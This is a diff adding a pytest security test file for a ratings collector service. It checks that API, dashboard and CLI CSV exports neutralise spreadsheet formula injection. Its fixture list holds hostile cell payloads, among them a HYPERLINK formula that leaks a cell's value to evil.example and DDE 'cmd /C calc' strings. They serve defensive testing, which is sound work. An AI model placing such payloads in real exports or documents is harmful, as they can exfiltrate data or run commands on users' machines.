@@ -1,0 +1,171 @@
+"""Hostile review, issue 13: each attack driven against a real collector on loopback.
+
+1. formula injection through exported CSV cells;
+2. a shared address full of wrong logins locking out people with a good token;
+3. calendar-edge dates crashing pages and downloads; unexpected errors without
+   a request id;
+4. ``/docs`` loading Swagger UI from a public CDN;
+5. redirects built from the Host header; no way to refuse unknown hosts.
+
+docs/security.md lists each threat with the test here that proves it stopped.
+"""
+
+from __future__ import annotations
+
+import csv
+import http.client
+import io
+import json
+import logging
+import re
+import threading
+import uuid
+from collections.abc import Iterator
+from contextlib import contextmanager
+from datetime import timedelta
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+import requests
+from collectorkit import run_cli
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from sync.clock import format_utc, local_date, utc_now, zone
+from sync.collector import Database, Storage
+from sync.collector.screenshots import free_port, running_collector, wait_until_up
+from sync.collector.spreadsheet import cell, csv_field, csv_text
+
+#: Reasons a hostile kiosk token could send, as the review found them.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\uff1d1+1",
+]
+ZONE = "Europe/Helsinki"
+
+
+# -- fixtures -----------------------------------------------------------------
+
+
+def make_database(path: Path) -> dict:
+    """Store s1 with kiosk k1, an office and a staff token, and ratings with hostile reasons."""
+    storage = Storage(Database(str(path)))
+    storage.db.migrate()
+    storage.add_store("s1", "Store one", ZONE)
+    storage.add_kiosk("k1", "s1")
+    office = storage.add_token("office").token
+    staff = storage.add_token("staff", store_id="s1").token
+    at = utc_now() - timedelta(hours=2)
+    rows = []
+    for seq, reason in enumerate([*HOSTILE, "queue", None], start=1):
+        moment = at + timedelta(seconds=seq)
+        created = format_utc(moment)
+        rows.append((str(uuid.uuid4()), seq, "s1", "k1", 1 + seq % 5, 5, created,
+                     local_date(moment, zone(ZONE)), "fi", reason, 0, 1, created, 0))
+    storage.bulk_insert("k1", rows)
+    day = local_date(at, zone(ZONE))
+    storage.db.close()
+    return {"database": path, "office": office, "staff": staff, "day": day}
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
+    """A real collector process on loopback over :func:`make_database`; adds ``url``."""
+    made = make_database(tmp_path_factory.mktemp("hostile") / "hostile.db")
+    with running_collector(made["database"]) as url:
+        yield {**made, "url": url}
+
+
+@pytest.fixture
+def lonely(tmp_path: Path) -> Iterator[dict]:
+    """A collector process of its own (the login throttle counts per process)."""
+    made = make_database(tmp_path / "lonely.db")
+    with running_collector(made["database"]) as url:
+        yield {**made, "url": url}
+
+
+def csrf_of(session: requests.Session, url: str) -> str:
+    form = session.get(url + "/login", timeout=10)
+    return re.search(r'name="csrf" value="([^"]+)"', form.text).group(1)
+
+
+def logged_in(server: dict, token: str | None = None) -> requests.Session:
+    """A requests session logged in through the form."""
+    session = requests.Session()
+    answer = session.post(server["url"] + "/login", allow_redirects=False, timeout=10,
+                          data={"token": token or server["office"],
+                                "csrf": csrf_of(session, server["url"])})
+    assert answer.status_code == 303, answer.text
+    return session
+
+
+def reasons_in(text: str) -> list[str]:
+    """The reason column of a ratings CSV, parsed as a spreadsheet importer would."""
+    return [row["reason"] for row in csv.DictReader(io.StringIO(text, newline=""))]
+
+
+def assert_neutralised(text: str) -> None:
+    """Every hostile reason is prefixed with ' and quoted; ordinary ones are untouched."""
+    found = reasons_in(text)
+    for reason in HOSTILE:
+        assert "'" + reason in found, (reason, found)
+        assert reason not in found
+        raw = '"' + ("'" + reason).replace('"', '""') + '"'
+        assert raw in text, reason
+    assert "queue" in found and "" in found
+    for row in csv.reader(io.StringIO(text, newline="")):
+        for value in row:
+            assert value.lstrip(" ")[:1] not in set("=+-@\t\r\n\uff1d"), row
+
+
+# -- 1. formula injection in CSV exports -------------------------------------
+
+
+def test_api_ratings_export_neutralises_formula_cells(hostile):
+    answer = requests.get(hostile["url"] + "/api/v1/export/ratings", timeout=10,
+                          params={"format": "csv"},
+                          headers={"Authorization": f"Bearer {hostile['office']}"})
+    assert answer.status_code == 200
+    assert_neutralised(answer.text)
+    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
+    assert all(re.fullmatch(r"[1-5]", row["score"]) for row in rows)  # numbers stay numbers
+    jsonl = requests.get(hostile["url"] + "/api/v1/export/ratings", timeout=10,
+                         params={"format": "jsonl"},
+                         headers={"Authorization": f"Bearer {hostile['office']}"})
+    assert {json.loads(line)["reason"] for line in jsonl.text.splitlines()} >= set(HOSTILE)
+
+
+def test_dashboard_csv_downloads_neutralise_formula_cells(hostile):
+    session = logged_in(hostile)
+    period = {"from": hostile["day"], "to": hostile["day"]}
+    ratings = session.get(hostile["url"] + "/office/export/ratings.csv", params=period,
+                          timeout=10)
+    assert ratings.status_code == 200
+    assert_neutralised(ratings.text)
+    daily = session.get(hostile["url"] + "/office/export/daily.csv", params=period, timeout=10)
+    row = next(csv.DictReader(io.StringIO(daily.text)))
+    assert row["store_id"] == "s1" and float(row["csat"]) >= 0 and '"' not in daily.text
+
+
+def test_cli_export_neutralises_formula_cells(hostile, tmp_path):
+    output = tmp_path / "ratings.csv"
+    run_cli(hostile["database"], "export", "--output", str(output))
+    assert_neutralised(output.read_bytes().decode("utf-8"))
+
+
+def test_one_cell_function_keeps_numbers_and_quotes_what_it_changes():
+    assert cell("=1+1") == "'=1+1" and cell("queue") == "queue"
+    assert cell(-0.5) == -0.5 and cell(-3) == -3 and cell(None) is None and cell(True) is True
+    assert csv_field(-0.5) == "-0.5" and csv_field(-3) == "-3" and csv_field(False) == "0"
+    assert csv_field("-0.5") == "\"'-0.5\""  # text that looks like a number is still text
+    assert csv_field('a,"b"') == '"a,""b"""' and csv_field("") == "" and csv_field(None) == ""
+    text = csv_text([{"n": -0.5, "s": "@x", "e": None}], ("n", "s", "e"))
+    assert text == "n,s,e\n-0.5,\"'@x\",\n"
+    assert list(csv.reader(io.StringIO(text))) == [["n", "s", "e"], ["-0.5", "'@x", ""]]
